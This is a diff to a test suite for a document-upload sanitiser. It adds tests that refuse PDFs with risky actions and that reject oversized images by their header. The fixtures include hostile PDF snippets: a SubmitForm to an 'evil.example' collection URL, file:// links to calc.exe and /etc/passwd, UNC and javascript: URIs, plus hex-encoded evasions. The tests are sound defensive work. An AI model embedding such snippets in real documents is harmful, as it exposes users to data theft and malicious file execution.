@@ -1,7 +1,8 @@
 import { deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { AppException } from '../../common/app-exception';
-import { pdfProblem, prepareFile, sniff } from './file-content';
+import { imagePixels, pdfProblem, prepareFile, sniff } from './file-content';
+import { bilevelPng } from '../../../test/png';
 import { linkSignatureValid, readLinkToken, signLinkToken } from './link-token';
 
 /** A one-page PDF with `extra` objects appended before the trailer. */
@@ -53,6 +54,25 @@ describe('pdfProblem', () => {
     expect(pdfProblem(pdf('4 0 obj << /S /Rendition /JS 5 0 R >> endobj\n'))).toBe('active_content');
   });
 
+  it('refuses form submission, data import, remote go-to actions and links to files', () => {
+    expect(pdfProblem(pdf('4 0 obj << /S /SubmitForm /F (https://evil.example/collect) >> endobj\n'))).toBe('active_content');
+    expect(pdfProblem(pdf('4 0 obj << /S /ImportData /F (data.fdf) >> endobj\n'))).toBe('active_content');
+    expect(pdfProblem(pdf('4 0 obj << /S /GoToR /F (other.pdf) /D [0 /Fit] >> endobj\n'))).toBe('active_content');
+    expect(pdfProblem(pdf('4 0 obj << /S /GoToE /T << /R /C /N (x) >> >> endobj\n'))).toBe('active_content');
+    expect(pdfProblem(pdf('4 0 obj << /S /Sub#6DitForm >> endobj\n'))).toBe('active_content');
+    expect(pdfProblem(pdf('4 0 obj << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> endobj\n'))).toBe('active_content');
+    expect(pdfProblem(pdf('4 0 obj << /S /URI /URI (\\\\\\\\fileserver\\\\share\\\\a.exe) >> endobj\n'))).toBe('active_content');
+    expect(pdfProblem(pdf('4 0 obj << /S /URI /URI (javascript:alert\\(1\\)) >> endobj\n'))).toBe('active_content');
+    const hexFile = Buffer.from('file:///etc/passwd').toString('hex');
+    expect(pdfProblem(pdf(`4 0 obj << /S /URI /URI <${hexFile}> >> endobj\n`))).toBe('active_content');
+    expect(pdfProblem(pdf(objectStream('4 0 << /S /URI /URI (file:///etc/passwd) >>')))).toBe('active_content');
+    expect(pdfProblem(pdf(objectStream('4 0 << /S /SubmitForm /F (x) >>')))).toBe('active_content');
+    // Links to web pages and mail addresses are ordinary in official documents.
+    expect(pdfProblem(pdf('4 0 obj << /S /URI /URI (https://www.gov.cn/zhengce/) >> endobj\n'))).toBeNull();
+    expect(pdfProblem(pdf('4 0 obj << /S /URI /URI (mailto:zgh@example.cn) >> endobj\n'))).toBeNull();
+    expect(pdfProblem(pdf(objectStream('4 0 << /S /URI /URI (http://example.cn/a\\)b) >>')))).toBeNull();
+  });
+
   it('refuses an encrypted PDF', () => {
     expect(pdfProblem(Buffer.from(pdf().toString('latin1').replace('trailer <<', 'trailer << /Encrypt 8 0 R'), 'latin1'))).toBe(
       'encrypted',
@@ -79,13 +99,15 @@ describe('pdfProblem', () => {
 });
 
 describe('prepareFile', () => {
+  // UPLOAD_MAX_PIXELS' default.
+  const limits = { maxPixels: 40_000_000 };
   it('re-encodes images to upright JPEG without EXIF, with the longest side capped', async () => {
     const photo = await sharp({ create: { width: 3000, height: 1000, channels: 3, background: { r: 10, g: 120, b: 40 } } })
       .jpeg()
       .withMetadata({ orientation: 6 })
       .withExif({ IFD0: { Make: 'TestCam' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '30/1 35/1 0/1' } })
       .toBuffer();
-    const out = await prepareFile(photo);
+    const out = await prepareFile(photo, limits);
     expect(out).toMatchObject({ kind: 'image', mime: 'image/jpeg', extension: 'jpg' });
     const meta = await sharp(out.bytes).metadata();
     expect([meta.width, meta.height]).toEqual([853, 2560]);
@@ -96,12 +118,27 @@ describe('prepareFile', () => {
 
   it('keeps a clean PDF byte for byte', async () => {
     const file = pdf();
-    expect((await prepareFile(file)).bytes.equals(file)).toBe(true);
+    expect((await prepareFile(file, limits)).bytes.equals(file)).toBe(true);
+  });
+
+  it('refuses an image of more than 40 megapixels by its header, before decoding it, with a clear message', async () => {
+    const huge = bilevelPng(8000, 8000); // 64 MP in a few kilobytes
+    expect(huge.length).toBeLessThan(100_000);
+    expect(await imagePixels(huge)).toBe(64_000_000);
+    const refusal = await prepareFile(huge, limits).catch((err: unknown) => err);
+    expect(refusal).toBeInstanceOf(AppException);
+    expect(refusal).toMatchObject({
+      code: 'file_too_large',
+      publicMessage: '图片像素太多（最多 4000 万像素），请调低相机分辨率或截图后再上传',
+    });
+    // The limit is configurable (UPLOAD_MAX_PIXELS); just under it is decoded as usual.
+    await expect(prepareFile(bilevelPng(2000, 1000), { maxPixels: 1_999_999 })).rejects.toMatchObject({ code: 'file_too_large' });
+    await expect(prepareFile(bilevelPng(2000, 1000), { maxPixels: 2_000_000 })).resolves.toMatchObject({ kind: 'image' });
   });
 
   it('refuses what is not an accepted type, and a broken image', async () => {
-    await expect(prepareFile(Buffer.from('MZ\x90\x00\x03', 'latin1'))).rejects.toMatchObject({ code: 'file_type_not_allowed' });
-    await expect(prepareFile(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0, 0]))).rejects.toBeInstanceOf(AppException);
+    await expect(prepareFile(Buffer.from('MZ\x90\x00\x03', 'latin1'), limits)).rejects.toMatchObject({ code: 'file_type_not_allowed' });
+    await expect(prepareFile(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0, 0]), limits)).rejects.toBeInstanceOf(AppException);
   });
 });
 
